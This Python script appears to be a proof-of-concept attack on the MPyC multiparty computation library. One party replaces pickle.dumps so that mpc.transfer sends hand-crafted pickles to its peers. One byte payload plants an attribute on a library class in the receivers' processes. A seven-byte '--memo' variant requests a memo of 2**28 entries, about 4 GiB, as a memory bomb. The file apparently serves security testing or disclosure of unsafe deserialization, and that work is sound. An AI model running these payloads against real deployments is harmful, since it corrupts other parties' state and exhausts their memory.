"""A co-party whose message BUILDs on a class: the last party's
mpc.transfer carries a pickle that names the field's array class
(ArrayGF(101), allowed as an MPyC type) and sets an attribute on it. The
others receive it; then an ordinary secure sum, as an honest program goes on.
With --memo, the pickle is 7 bytes that ask for a memo of 2**28 entries
(4 GiB): the bomb only a party's memory limit stops."""
import pickle
import sys

from mpyc.runtime import mpc

field = mpc.SecFld(101).field
ARRAY = type(field.array([1]))
# GLOBAL mpyc.finfields ArrayGF(101); BUILD (None, {'planted': 1}); STOP: a class object, its attribute set
CRAFTED = (b"\x80\x02c" + b"mpyc.finfields\n" + ARRAY.__name__.encode() + b"\n"
           + b"N}X\x07\x00\x00\x00plantedK\x01s\x86b.")
if "--memo" in sys.argv:  # NONE; LONG_BINPUT 2**28; STOP
    CRAFTED = b"\x80\x02Nr" + (1 << 28).to_bytes(4, "little") + b"."


async def main():
    await mpc.start()
    last = len(mpc.parties) - 1
    others = [p for p in range(len(mpc.parties)) if p != last]
    if mpc.pid == last:
        honest, pickle.dumps = pickle.dumps, lambda obj: CRAFTED
    got = await mpc.transfer(None, senders=last, receivers=others)
    if mpc.pid == last:
        pickle.dumps = honest
    print(f"party {mpc.pid} received {got!r}; planted on its class: {hasattr(ARRAY, 'planted')}", flush=True)
    print("sum", await mpc.output(mpc.sum(mpc.input(mpc.SecInt(32)(mpc.pid)))))
    await mpc.shutdown()


mpc.run(main())
